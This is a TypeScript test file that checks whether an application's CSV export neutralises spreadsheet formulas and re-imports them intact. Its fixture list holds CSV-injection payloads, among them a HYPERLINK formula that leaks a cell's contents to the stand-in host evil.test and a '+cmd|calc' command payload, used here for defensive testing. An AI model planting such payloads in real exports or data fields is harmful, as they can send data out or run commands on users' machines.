/** CSV exports neutralise formulas (OWASP), and the neutralised file re-imports unchanged. */
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { call } from '../harness/api.js';
import type { ApiUser } from '../harness/api.js';
import { orgApiForSuite, createOrgWithUser } from '../harness/org-api.js';
import { multipartFile } from '../harness/upload.js';
import { createAiSystem } from '../harness/services.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.test/?"&A1,"Open")',
  '+cmd|calc',
  '-2+3',
  '@SUM(1)',
  "'=already",
];

describe('CSV formula injection', () => {
  const api = orgApiForSuite({ name: 'Exporter' }, { source: ['aims_manager'] });
  let target: ApiUser;
  let toId: string;
  const csvOf = async (user: ApiUser, orgId: string) => {
    const response = await call(api.ctx, user, {
      method: 'GET',
      url: `/api/v1/orgs/${orgId}/ai-systems/export?format=csv`,
    });
    expect(response.statusCode).toBe(200);
    return response.body;
  };

  beforeAll(async () => {
    const to = await createOrgWithUser(api.ctx, ['aims_manager'], 'Importer');
    toId = to.org.id;
    target = to.user;
    for (const [index, text] of HOSTILE.entries()) {
      await createAiSystem(api.ctx.services, api.source, api.orgId, {
        name: `${text} ${index}`,
        purpose: text,
      });
    }
  });

  it('writes no cell that a spreadsheet would run as a formula', async () => {
    const rows: string[][] = parse(await csvOf(api.source, api.orgId), { bom: true });
    const cells = rows.slice(1).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'${HOSTILE[0]}`);
  });

  it('re-imports the neutralised file with every text as it was', async () => {
    // Copied into another organization: its Ids are not records there, so the column is cleared.
    const [header = [], ...rows]: string[][] = parse(await csvOf(api.source, api.orgId), {
      bom: true,
    });
    const idColumn = header.indexOf('Id');
    const withoutIds = [header, ...rows].map((row) => row.filter((_, at) => at !== idColumn));
    const csv = stringify(withoutIds);
    const imported = await call(api.ctx, target, {
      method: 'POST',
      url: `/api/v1/orgs/${toId}/ai-systems/import`,
      ...multipartFile('systems.csv', csv),
    });
    expect(imported.statusCode).toBe(201);
    const list = await call(api.ctx, target, {
      method: 'GET',
      url: `/api/v1/orgs/${toId}/ai-systems?pageSize=50`,
    });
    const purposes = list
      .json<{ items: { purpose: string }[] }>()
      .items.map((item) => item.purpose);
    expect(purposes.sort()).toEqual([...HOSTILE].sort());
  });
});
